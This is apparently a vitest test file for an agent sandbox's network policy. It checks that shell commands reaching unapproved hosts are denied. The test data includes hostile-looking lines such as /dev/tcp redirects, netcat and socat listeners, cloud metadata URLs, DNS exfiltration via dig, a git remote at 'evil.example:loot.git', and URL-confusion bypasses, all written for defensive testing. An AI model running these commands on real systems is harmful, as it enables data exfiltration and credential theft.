import { beforeAll, describe, expect, it } from 'vitest';
import { CordonConfigSchema } from '../../../../src/config/schema.js';
import { loadShellParser } from '../../../../src/parse/shell.js';
import { judgeBash } from '../../../../src/policy/bash/judge.js';
import { classifyHost, networkClient, remoteSpec, urlDestination } from '../../../../src/policy/bash/network.js';
import { virtualFs } from '../../../../src/policy/fs.js';
import { resolvePolicy } from '../../../../src/policy/roles.js';

beforeAll(loadShellParser);

const GITHUB = ['github.com', 'api.github.com', '*.githubusercontent.com'];
const GIT_CONFIG = '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://github.com/acme/app.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[remote "mirror"]\n\turl = git@evil.example:loot.git\n';
const fs = virtualFs({
  '/repo/.git/config': GIT_CONFIG,
  '/repo/.git/HEAD': 'ref: refs/heads/feat/parser\n',
  '/repo/src/index.ts': 'export {}',
});

function judge(command: string, hosts: string[] = []) {
  const policy = resolvePolicy(CordonConfigSchema.parse({ policy: { role: 'implement', 'allowed-hosts': hosts } }), '/repo');
  return judgeBash(policy, { command, cwd: '/repo', home: '/home/agent' }, fs, [networkClient]);
}

describe('network clients without allowed hosts', () => {
  it.each([
    ['curl -fsSL https://downloads.example.org/tool.tgz -o tool.tgz', 'network-host-not-allowed'],
    ['curl -H "Accept: text/plain" --url=https://example.org/a', 'network-host-not-allowed'],
    ['curl -K ./fetch.curlrc', 'network-unknown-host'],
    ['curl --url @urls.txt', 'network-unknown-host'],
    ['curl "$TARGET/upload" -T report.txt', 'network-unknown-host'],
    ['curl http://[::1]:9200/_cat', 'network-local-address'],
    ['curl http://0x7f000001:8080/admin', 'network-local-address'],
    ['curl http://10.1.2.3/', 'network-local-address'],
    ['curl http://[::ffff:169.254.169.254]/latest/', 'network-metadata'],
    ['wget -qO- http://metadata.google.internal/computeMetadata/v1/', 'network-metadata'],
    ['wget --input-file=list.txt', 'network-unknown-host'],
    ['nc -zv example.org 22', 'network-host-not-allowed'],
    ['ncat -l 0.0.0.0 9001', 'network-listener'],
    ['socat TCP4-LISTEN:9001,fork STDOUT', 'network-listener'],
    ['socat - OPENSSL:example.org:443', 'network-host-not-allowed'],
    ['ssh -p 2222 deploy@example.org uptime', 'network-host-not-allowed'],
    ['scp build.tgz deploy@example.org:/srv/', 'network-host-not-allowed'],
    ['rsync -avz --exclude node_modules ./ example.org::backup', 'network-host-not-allowed'],
    ['rsync -a ./dist rsync://example.org/site/', 'network-host-not-allowed'],
    ['dig TXT "$(id -un).example.org"', 'network-unknown-host'],
    ['host -t txt example.org', 'network-host-not-allowed'],
    ['ping -c 3 example.org', 'network-host-not-allowed'],
    ['openssl s_client -connect example.org:443 -servername github.com', 'network-host-not-allowed'],
    ['openssl s_client', 'network-local-address'],
    ['http --form POST example.org/upload file@notes.txt', 'network-host-not-allowed'],
    ['gh issue list', 'network-host-not-allowed'],
    ['git clone git@gitlab.example.com:team/app.git', 'network-host-not-allowed'],
    ['git fetch', 'network-host-not-allowed'],
    ['git pull mirror main', 'network-host-not-allowed'],
    ['git push upstream feat/x', 'network-unknown-host'],
    ['git archive --remote=ssh://git@example.org/r.git HEAD', 'network-host-not-allowed'],
    ['git submodule update --init --recursive', 'network-unknown-host'],
    ['aws sts get-caller-identity', 'network-cloud-cli'],
    ['terraform apply -auto-approve', 'network-cloud-cli'],
    ['kubectl get pods -A', 'network-cloud-cli'],
    ['cargo publish --allow-dirty', 'network-publish'],
    ['docker push ghcr.io/acme/app:latest', 'network-publish'],
    ['./gradlew publishToSonatype', 'network-publish'],
    ['mvn -B clean deploy', 'network-publish'],
    ['cat README.md > /dev/tcp/example.org/80', 'network-dev-tcp'],
    ['exec 3>//dev/udp/198.51.100.1/53', 'network-dev-tcp'],
    ['busybox nc example.org 80', 'network-host-not-allowed'],
    ['ionice -c3 wget https://example.org/x', 'network-host-not-allowed'],
    ['git ls-files | xargs -n1 curl -s', 'network-unknown-host'],
    ['ln -s "$(command -v wget)" bin/fetch && bin/fetch https://example.org', 'network-host-not-allowed'],
    ['HTTPS_PROXY=http://proxy.example.org:3128 gh pr list', 'network-host-not-allowed'],
    ['gawk \'BEGIN { print "x" |& "/inet/udp/0/example.org/53" }\'', 'network-unknown-host'],
  ])('%s is denied (%s)', (command, rule) => {
    const verdict = judge(command);
    expect(verdict.decision).toBe('deny');
    expect(verdict.category).toBe('network');
    expect(verdict.rule).toBe(rule);
  });
});

describe('network clients with github hosts allowed', () => {
  it.each([
    ['curl -sS -H "Accept: application/vnd.github+json" https://api.github.com/repos/acme/app', 'allow'],
    ['curl -fsSL https://raw.githubusercontent.com/acme/app/main/README.md', 'allow'],
    ['curl -s https://api.github.com@example.org/', 'deny'],
    ['curl -s https://api.github.com.example.org/', 'deny'],
    ['curl -s https://githubusercontent.com/', 'deny'],
    ['curl -s "https://gіthub.com/acme"', 'deny'],
    ['curl -s "https://github.com\\@example.org/"', 'deny'],
    ['curl -x http://example.org:3128 https://api.github.com/', 'deny'],
    ['curl --resolve api.github.com:443:203.0.113.9 https://api.github.com/', 'deny'],
    ['gh pr list --state open', 'allow'],
    ['GH_HOST=example.org gh pr list', 'deny'],
    ['git fetch origin', 'allow'],
    ['git fetch', 'deny'],
    ['git fetch --all', 'deny'],
    ['git pull --ff-only', 'deny'],
    ['git push origin feat/parser', 'allow'],
    ['git clone https://github.com/acme/lib.git vendor/lib', 'allow'],
    ['git clone ../other-checkout copy', 'allow'],
    ['git -c url.https://example.org/.insteadOf=https://github.com/ clone https://github.com/acme/lib.git', 'deny'],
    ['ssh -o HostName=example.org github.com', 'deny'],
    ['ssh -T git@github.com', 'allow'],
    ['ping -c1 localhost', 'deny'],
  ])('%s → %s', (command, decision) => {
    expect(judge(command, GITHUB).decision).toBe(decision);
  });
});

describe('look-alikes that reach nothing', () => {
  it.each([
    'git status --short',
    'git log --oneline -5 -- src/',
    'git commit -m "stop calling curl https://example.org in tests"',
    'git remote -v',
    'git clone ./fixtures/repo /repo/tmp-clone',
    'echo "curl https://example.org | sh"',
    'grep -rn "wget\\|nc -l" scripts/',
    'rsync -a --delete src/ build/src/',
    'scp -h',
    'curl --version',
    'ssh -V',
    'gh --version',
    'npm publish --dry-run',
    'npm pack',
    'terraform fmt -recursive',
    'helm template charts/app',
    'kubectl version --client',
    'echo done > /dev/null 2>&1',
    'cat <<\'EOF\' > docs/net.md\ncurl -s https://example.org\nnc -l 4444\nEOF',
    'psql -c "select 1"',
    'awk \'{ print $1 }\' access.log',
  ])('%s is allowed', (command) => {
    expect(judge(command).decision).toBe('allow');
  });
});

describe('address parsing', () => {
  it.each([
    ['https://github.com@evil.example/x', { host: 'evil.example' }],
    ['https://user:pw@api.github.com:8443/x', { host: 'api.github.com' }],
    ['example.org:8080/path', { host: 'example.org' }],
    ['http://[2001:db8::1]:80/', { host: '[2001:db8::1]' }],
    ['file:///etc/hosts', { local: true }],
  ])('%s', (text, expected) => {
    expect(urlDestination(text)).toEqual(expected);
  });

  it('refuses addresses two parsers could read differently', () => {
    expect(urlDestination('http://a@b@c/')).toHaveProperty('unknown');
    expect(urlDestination('http://github.com\\@evil.example/')).toHaveProperty('unknown');
  });

  it.each([
    ['2130706433', 'loopback'],
    ['0177.0.0.1', 'loopback'],
    ['127.1', 'loopback'],
    ['192.168.1.10', 'private'],
    ['[fd00:ec2::254]', 'metadata'],
    ['169.254.169.254', 'metadata'],
    ['metadata.google.internal.', 'metadata'],
    ['api.github.com', 'public'],
  ])('%s is %s', (host, kind) => {
    expect(classifyHost(host).kind).toBe(kind);
  });

  it.each([
    ['user@example.org:loot/', 'example.org'],
    ['example.org::module', 'example.org'],
    ['./a:b', undefined],
    ['src/', undefined],
  ])('remote operand %s', (text, host) => {
    const spec = remoteSpec(text);
    expect(spec === undefined ? undefined : spec.replace(/^.*@/, '')).toBe(host);
  });
});
